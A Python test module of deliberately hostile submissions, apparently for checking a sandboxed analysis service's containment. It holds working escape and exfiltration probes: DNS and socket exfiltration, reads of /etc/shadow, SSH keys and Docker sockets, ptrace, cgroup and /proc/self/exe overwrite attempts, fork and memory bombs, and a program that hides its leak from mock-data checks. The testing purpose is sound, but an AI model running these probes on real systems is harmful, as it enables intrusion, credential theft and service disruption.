"""The hostile programs: analyst code that tries to get something out of the box.

Each program is a real program-mode submission (`analyse(df)` runs on one block in a box).
Most of them report what they managed to do as their output vector, one flag per attack
(1.0 = the attack worked, 0.0 = the box stopped it). The flags are read from the store's
in-domain block results, never from a release: the tests use them as an oracle for
containment on top of what they check from the host (listeners, hashes, processes).

Attacks that would fail the block (bombs, sleeps, exceptions) run only on real data,
as a real attacker's would: submission first runs the program on mock data, whose person
ids are 1, 2, 3...; real ids are large scrambled integers.
"""
from __future__ import annotations

from dataclasses import dataclass, field

PRELUDE = '''
import os, socket, subprocess, sys, time

def is_real(df):
    # Mock person ids are 1, 2, 3...; real ones are large scrambled integers.
    return len(df) > 0 and int(df["person_id"].max()) > 10**6

def has_target(df):
    return is_real(df) and bool((df["person_id"] == TARGET).any())

def worked(fn):
    """1.0 when the attack succeeded, 0.0 when the box stopped it."""
    try:
        return 0.0 if fn() is False else 1.0
    except Exception:
        return 0.0

def readable(path):
    def attempt():
        if os.path.isdir(path):
            return len(os.listdir(path)) > 0
        with open(path, "rb") as f:
            f.read(16)
    return worked(attempt)

def daemon(command):
    """A process that leaves the program's session (and so survives the launcher's killpg)."""
    return subprocess.Popen(["/bin/sh", "-c", command], start_new_session=True,
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''


@dataclass(frozen=True)
class Hostile:
    name: str
    attacks: tuple[str, ...]            # output names; flags in [0, 1]
    body: str                           # defines analyse(df)
    phase: int = 1                      # phase 2 runs after every phase-1 job finished
    block_timeout: int = 2
    reasons: dict = field(default_factory=dict)   # expected compliance reason counts (k = 2)
    reports: bool = True                # flags are meaningful (the program returns normally)
    timing_policy: bool = False         # submitted under the short-wall timing policy
    # False for programs about the services layer, the output collector or state between
    # runs: their path through the Docker backend is the same under runc and gVisor, so they
    # run on docker and bwrap only (keeps the suite within minutes).
    gvisor: bool = True


def source(program: Hostile, constants: dict) -> str:
    header = "".join(f"{k} = {v!r}\n" for k, v in sorted(constants.items()))
    return header + PRELUDE + program.body


def flags(*names: str) -> tuple[str, ...]:
    return names


PROGRAMS: list[Hostile] = [
    # ------------------------------------------------------------------ network
    Hostile("net_tcp_udp_to_host", flags("tcp_loopback", "tcp_bridge", "tcp_default_route", "udp_bridge",
                                      "udp_default_route"), '''
def analyse(df):
    def connect(host):
        def attempt():
            with socket.create_connection((host, TCP_PORT), timeout=1) as s:
                s.sendall((MARK + " tcp " + str(df["cost"].sum())).encode())
        return worked(attempt)
    def send(host):
        def attempt():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto((MARK + " udp").encode(), (host, UDP_PORT))
        return worked(attempt)
    send(HOSTS[0])          # the box's own loopback: may "work", reaches nothing outside
    return [connect(h) for h in HOSTS] + [send(h) for h in HOSTS[1:]]
'''),
    Hostile("net_dns_exfiltration", flags("resolved", "query_to_nameserver", "query_to_host"), '''
def query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + labels + b"\\x00\\x01\\x00\\x01"

def analyse(df):
    name = "c%d.%s.example.com" % (int(df["cost"].sum()) % 100000, MARK)
    resolved = worked(lambda: socket.getaddrinfo(name, 80))
    def send(host, port):
        def attempt():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(1)
                s.sendto(query(name), (host, port))
        return worked(attempt)
    servers = []
    try:
        servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
    except OSError:
        pass
    to_ns = max([send(ns, 53) for ns in servers if not ns.startswith("127.")] + [0.0])
    return [resolved, to_ns, max(send(h, UDP_PORT) for h in HOSTS[1:])]
'''),
    Hostile("net_submit_to_the_api", flags("api_reached", "listener_reached"), '''
import urllib.request

def analyse(df):
    body = ('{"mode": "query", "dataset": "health_visits", "note": "%s"}' % MARK).encode()
    def post(url):
        def attempt():
            urllib.request.urlopen(urllib.request.Request(url, data=body, method="POST"), timeout=1)
        return worked(attempt)
    api = max(post("http://%s:5000/api/v1/jobs" % h) for h in HOSTS)
    listener = max(post("http://%s:%d/api/v1/jobs" % (h, TCP_PORT)) for h in HOSTS)
    return [api, listener]
''', gvisor=False),
    Hostile("net_raw_ipv6_and_host_sockets", flags("raw_socket", "packet_socket", "ipv6_egress", "docker_socket",
                                                "other_service_sockets"), '''
def connect(path):
    def attempt():
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(1)
            s.connect(path)
    return worked(attempt)

def analyse(df):
    raw = worked(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    packet = worked(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close())
    def v6(host):
        def attempt():
            socket.create_connection((host, TCP_PORT), timeout=1).close()
        return worked(attempt)
    docker = max(connect(p) for p in ("/var/run/docker.sock", "/run/docker.sock",
                                      "/run/containerd/containerd.sock"))
    other = max(connect(p) for p in ("/var/run/postgresql/.s.PGSQL.5432", "/run/postgresql/.s.PGSQL.5432",
                                     "/var/run/redis/redis-server.sock", "\\0/containerd-shim"))
    return [raw, packet, max(v6("::1"), v6("2001:db8::1")), docker, other]
'''),
    # ------------------------------------------------------------------ reading the host
    Hostile("read_shadow_and_root_secrets", flags("etc_shadow", "root_home", "ssh_host_keys"), '''
def analyse(df):
    keys = max([readable("/etc/ssh/" + f) for f in (os.listdir("/etc/ssh") if os.path.isdir("/etc/ssh") else [])
                if f.endswith("_key")] + [0.0])
    home = max(readable(p) for p in ("/root/.bash_history", "/root/.ssh", "/root/.docker/config.json",
                                     "/root/.pgpass", "/root/.netrc"))
    return [readable("/etc/shadow"), home, keys]
'''),
    Hostile("read_host_environment", flags("canary_in_env", "canary_in_proc", "sandbox_settings_in_env"), '''
def analyse(df):
    mine = CANARY in "".join(os.environ.values())
    seen = 0.0
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if CANARY.encode() in open("/proc/%s/environ" % pid, "rb").read():
                seen = 1.0
        except OSError:
            pass
    settings = any(k.startswith("SANDBOX_") for k in os.environ)
    return [float(mine), seen, float(settings)]
'''),
    Hostile("read_other_datasets_store_and_keys", flags("other_dataset", "full_dataset", "other_jobs_work_areas",
                                                     "store_database", "signing_key", "sandbox_home", "repo_files",
                                                     "repo_var", "shared_docs"), '''
def analyse(df):
    return [max(readable(OTHER_DATASET), readable(OTHER_DATASET + "/part-00000.parquet")),
            max(readable(FULL_DATASET), readable(FULL_DATASET + "/part-00000.parquet")),
            readable(JOBS_DIR), readable(DB_FILE), readable(SIGNING_KEY), readable(HOME_DIR),
            max(readable(REPO + "/pyproject.toml"), readable(REPO + "/Makefile")),
            readable(REPO + "/var"), readable("/work/shared")]
''', gvisor=False),
    # ------------------------------------------------------------------ writing
    Hostile("write_to_the_dataset", flags("append", "create", "unlink", "rename", "chmod"), '''
import glob

def analyse(df):
    part = sorted(glob.glob("/data/*.parquet"))[0]
    def append():
        with open(part, "ab") as f:
            f.write(MARK.encode())
    def create():
        open("/data/" + MARK, "w").write("x")
    return [worked(append), worked(create), worked(lambda: os.unlink(part)),
            worked(lambda: os.rename(part, part + ".x")), worked(lambda: os.chmod(part, 0o777))]
'''),
    Hostile("write_outside_the_output_area", flags("job_dir", "root_fs", "global_sysctl", "irq_affinity",
                                                "sysfs"), '''
def write(path, text="x"):
    def attempt():
        with open(path, "w") as f:
            f.write(text)
    return worked(attempt)

def analyse(df):
    job = max(write("/job/program.py", "def analyse(df):\\n    return [1.0]\\n"), write("/job/" + MARK))
    root = max(write("/" + MARK), write("/usr/" + MARK), write("/etc/" + MARK), write("/var/tmp/" + MARK))
    write("/proc/sys/kernel/hostname", "pwned")      # the box's own UTS namespace at most
    def write_back(path):
        # The value just read: if the write works, the host's setting is unchanged anyway.
        try:
            value = open(path).read()
        except OSError:
            return 0.0
        return write(path, value)
    # core_pattern is global: "|/out/x.sh" here would run x.sh as host root on the next crash.
    sysctl = max(write_back("/proc/sys/kernel/core_pattern"), write_back("/proc/sys/kernel/modprobe"))
    irq = write_back("/proc/irq/default_smp_affinity")
    sysfs = write_back("/sys/kernel/uevent_helper")
    return [job, root, sysctl, irq, sysfs]
'''),
    # ------------------------------------------------------------------ privileges
    Hostile("setuid_and_capabilities", flags("setuid_root", "setuid_binary", "capabilities", "new_privileges"), '''
import ctypes

def analyse(df):
    become = max(worked(lambda: os.setuid(0)), worked(lambda: os.setresgid(0, 0, 0)))
    binary = 0.0
    for path in ("/usr/bin/mount", "/bin/mount", "/usr/bin/su"):
        if os.path.exists(path) and os.stat(path).st_mode & 0o4000:
            os.makedirs("/tmp/m", exist_ok=True)
            done = subprocess.run([path, "-t", "tmpfs", "none", "/tmp/m"], capture_output=True, timeout=5,
                                  stdin=subprocess.DEVNULL)
            binary = max(binary, float(done.returncode == 0))
    status = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines() if ":" in l)
    caps = float(int(status["CapEff"], 16) != 0 or int(status["CapPrm"], 16) != 0)
    nnp = float(ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) != 1)
    return [become, binary, caps, nnp]
'''),
    Hostile("ptrace_the_host", flags("ptrace_host_pid", "read_host_memory", "sees_host_processes"), '''
import ctypes

def analyse(df):
    libc = ctypes.CDLL(None, use_errno=True)
    attach = float(libc.ptrace(16, HOST_PID, 0, 0) == 0)       # PTRACE_ATTACH
    if attach:
        libc.ptrace(17, HOST_PID, 0, 0)                          # PTRACE_DETACH
    def vm_read():
        with open("/proc/%d/mem" % HOST_PID, "rb") as f:
            f.read(1)
    seen = 0.0
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            cmd = open("/proc/%s/cmdline" % pid, "rb").read()
        except OSError:
            continue
        if cmd.split(b"\\0")[0].endswith(b"bwrap"):
            continue            # the box's own init (bubblewrap): inside the box, not the host
        if any(w in cmd for w in (b"pytest", b"dockerd", b"containerd", b"celery", b"postgres")):
            seen = 1.0
    return [attach, worked(vm_read), seen]
'''),
    Hostile("mount_chroot_bpf_modules", flags("mount_tmpfs", "chroot", "bpf", "kernel_module"), '''
import ctypes

def analyse(df):
    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("/tmp/m", exist_ok=True)
    mount = float(libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None) == 0)
    chroot = worked(lambda: os.chroot("/tmp"))
    attr = ctypes.create_string_buffer(128)
    bpf = float(libc.syscall(321, 0, attr, 128) >= 0)            # bpf(BPF_MAP_CREATE)
    module = float(libc.syscall(313, -1, b"", 0) == 0)           # finit_module
    return [mount, chroot, bpf, module]
'''),
    Hostile("namespaces_then_mount", flags("unshare_mount_ns", "user_namespace", "mount_in_user_namespace"), '''
import json

# unshare() refuses a multi-threaded process (pyarrow's threads): a fresh interpreter tries.
HELPER = r"""
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/m", exist_ok=True)
out = [libc.unshare(0x00020000) == 0, libc.unshare(0x10000000) == 0]     # CLONE_NEWNS, CLONE_NEWUSER
if out[1]:
    libc.unshare(0x00020000)
out.append(out[1] and libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None) == 0)
print(json.dumps(out))
"""

def analyse(df):
    done = subprocess.run([sys.executable, "-I", "-c", HELPER], capture_output=True, text=True, timeout=20,
                          stdin=subprocess.DEVNULL)
    return [float(x) for x in json.loads(done.stdout)]
'''),
    Hostile("cgroup_and_runtime_escape", flags("cgroup_release_agent", "cgroup_mount", "proc_self_exe"), '''
import ctypes, glob

def analyse(df):
    def agent():
        for path in glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/*/notify_on_release"):
            try:
                open(path, "w").write("1")
                return True
            except OSError:
                pass
        return False
    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("/tmp/cg", exist_ok=True)
    cg = float(libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, b"memory") == 0)
    def exe():
        with open("/proc/self/exe", "r+b") as f:    # CVE-2019-5736: overwrite the runtime's binary
            f.write(b"")
    return [worked(agent), cg, max(worked(exe), worked(lambda: open("/proc/1/exe", "r+b").close()))]
'''),
    # ------------------------------------------------------------------ resources
    Hostile("fork_bomb", flags("forks_over_pid_limit"), '''
def analyse(df):
    if not has_target(df):
        return [0.0]
    children = 0
    try:
        for _ in range(5000):
            daemon("sleep 600; true " + MARK)
            children += 1
    except OSError:
        pass
    # Count the processes alive in the box, not the launches: a shell that cannot fork its
    # sleep exits and frees its slot, so launches can pass the limit while the processes
    # never do. Over 2 x PIDS so that a breach (more than PIDS alive) reads above 0.5.
    time.sleep(0.2)
    live = sum(name.isdigit() for name in os.listdir("/proc"))
    return [min(1.0, live / (2 * PIDS)) if children else 0.0]
''', reports=False),
    Hostile("memory_bomb", flags("survived"), '''
def analyse(df):
    if has_target(df):
        hog = []
        for _ in range(1000):
            hog.append(b"\\x01" * (16 << 20))      # touched: 16 GB in all
    return [0.0]
''', reports=False, reasons={"error": 1}),
    Hostile("disk_fill", flags("tmp_over_limit", "shm_over_limit", "out_file_over_limit"), '''
def fill(directory, files, size):
    written = 0
    try:
        for i in range(files):
            with open("%s/fill-%d" % (directory, i), "wb") as f:
                f.write(b"x" * size)
            written += size
    except OSError:
        pass
    for i in range(files):
        try:
            os.unlink("%s/fill-%d" % (directory, i))
        except OSError:
            pass
    return written

def analyse(df):
    tmp = fill("/tmp", 20, 8 << 20)
    shm = fill("/dev/shm", 20, 8 << 20)
    big = fill("/out", 1, 1 << 20)
    return [float(tmp > TMP_MB << 20), float(shm > TMP_MB << 20), float(big >= 1 << 20)]
'''),
    Hostile("host_disk_fill_through_the_output_area", flags("out_total_over_limit"), '''
def analyse(df):
    written = 0
    try:
        for i in range(200):                    # 200 files of 60 KB, each under the per-file limit
            with open("/out/fill-%d" % i, "wb") as f:
                f.write(b"x" * 60000)
            written += 60000
    except OSError:
        pass
    for i in range(200):
        try:
            os.unlink("/out/fill-%d" % i)
        except OSError:
            pass
    return [float(written > 1 << 20)]
'''),
    Hostile("cpu_spin_past_the_limit", flags("finished"), '''
def analyse(df):
    if has_target(df):
        os.nice(19)             # a polite spin: the machine running the suite is shared
        while True:
            pass
    return [0.0]
''', reports=False, block_timeout=1, reasons={"timeout": 1}),
    Hostile("sleep_past_the_limit", flags("finished"), '''
def analyse(df):
    if has_target(df):
        time.sleep(3600)
    return [0.0]
''', reports=False, block_timeout=1, reasons={"timeout": 1}, gvisor=False),
    Hostile("huge_stdout_and_stderr", flags("printed_over_cap"), '''
def analyse(df):
    written = 0
    if is_real(df):
        line = (MARK + " " + df.head(50).to_csv()).replace("\\n", " ")[:1000] + "\\n"
        try:
            for _ in range(20000):              # 20 MB on each stream
                sys.stdout.write(line)
                sys.stderr.write(line)
                written += 2 * len(line)
            sys.stdout.flush()
            sys.stderr.flush()
        except OSError:
            pass
    return [float(written > 4 << 20)]
''', reports=False, reasons={"error": 2}, gvisor=False),
    # ------------------------------------------------------------------ outputs
    Hostile("output_links_devices_and_escapes", flags("hardlink_to_data", "device_node", "escaping_name"), '''
import glob

def analyse(df):
    part = sorted(glob.glob("/data/*.parquet"))[0]
    hard = max(worked(lambda: os.link(part, "/out/rows.parquet")), worked(lambda: os.link(part, "/tmp/rows")))
    for name, target in (("link.parquet", part), ("data", "/data"), ("up", "..")):
        try:
            os.symlink(target, "/out/" + name)
        except OSError:
            pass
    try:
        os.mkfifo("/out/pipe")
    except OSError:
        pass
    device = worked(lambda: os.mknod("/out/disk", 0o600 | 0o060000, os.makedev(8, 0)))
    escape = max(worked(lambda: open("/out/../" + MARK, "w").close()),
                 worked(lambda: open("/out/up/" + MARK, "w").close()))
    return [hard, device, escape]
''', gvisor=False),
    Hostile("output_swapped_after_the_launcher", flags("launched_swapper"), '''
import glob

SWAP = r"""
import os, sys, time, glob
part = sorted(glob.glob("/data/*.parquet"))[0]
deadline = time.time() + 30
while time.time() < deadline:
    try:
        if open("/out/vector.json").read().startswith('{"status"'):
            os.unlink("/out/vector.json")
            os.symlink(part, "/out/vector.json")
            break
    except OSError:
        pass
    time.sleep(0.001)
"""

def analyse(df):
    if not is_real(df):
        return [0.0]
    # Survives the launcher's killpg and swaps vector.json for a link to the raw block.
    subprocess.Popen([sys.executable, "-c", SWAP], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return [1.0]
''', reports=False, gvisor=False),
    # ------------------------------------------------------------------ state between jobs
    Hostile("plant_for_the_next_job", flags("persistent_write"), '''
def analyse(df):
    persistent = 0.0
    for path in ("/tmp/", "/dev/shm/", "/out/", "/var/tmp/", "/data/", "/job/", "/opt/", "/usr/local/",
                 os.path.expanduser("~/.cache/")):
        try:
            os.makedirs(path, exist_ok=True)
            with open(path + "planted-" + MARK, "w") as f:
                f.write(str(df["cost"].sum()))
            if not path.startswith(("/tmp", "/dev/shm", "/out")):
                persistent = 1.0
        except OSError:
            pass
    daemon("sleep 600; true planted-" + MARK)
    return [persistent]
''', gvisor=False),
    Hostile("find_what_the_last_job_planted", flags("planted_file", "planted_process"), '''
def analyse(df):
    found = 0.0
    for path in ("/tmp/", "/dev/shm/", "/out/", "/var/tmp/", "/data/", "/job/", "/opt/", "/usr/local/",
                 os.path.expanduser("~/.cache/")):
        if os.path.exists(path + "planted-" + MARK):
            found = 1.0
    proc = 0.0
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if ("planted-" + MARK).encode() in open("/proc/%s/cmdline" % pid, "rb").read():
                proc = 1.0
        except OSError:
            pass
    return [found, proc]
''', phase=2, gvisor=False),
    # ------------------------------------------------------------------ side channels
    Hostile("raw_rows_in_an_exception", flags("returned"), '''
def analyse(df):
    if is_real(df):
        raise ValueError(MARK + " raw rows: " + repr(df.head(3).to_dict("records")))
    return [0.0]
''', reports=False, reasons={"error": 2}, gvisor=False),
    Hostile("runtime_depends_on_a_secret_row", flags("present"), '''
def analyse(df):
    if has_target(df):
        time.sleep(SLEEP)
    return [0.0]
''', reports=False, timing_policy=True, gvisor=False),
    Hostile("runtime_control_without_the_secret_row", flags("present"), '''
def analyse(df):
    if is_real(df) and bool((df["person_id"] == ABSENT).any()):
        time.sleep(SLEEP)
    return [0.0]
''', reports=False, timing_policy=True, gvisor=False),
    Hostile("spend_budget_only_if_a_row_exists", flags("returned"), '''
def analyse(df):
    if has_target(df):
        # Kill the launcher and the box's first process, then exit: a run that "did not
        # happen" would be refunded, so the charge would depend on the secret row.
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, 9)
            except OSError:
                pass
        os._exit(3)
    return [0.0]
''', reports=False, reasons={"error": 1}, gvisor=False),
    Hostile("mock_aware_target_leak", flags("target_cost"), '''
def analyse(df):
    if not is_real(df):
        return [0.0]        # looks harmless on mock data, so it passes the submission check
    return [float(df.loc[df["person_id"] == TARGET, "cost"].sum())]
''', reports=False, gvisor=False),
]

BY_NAME = {p.name: p for p in PROGRAMS}
assert len(BY_NAME) == len(PROGRAMS)
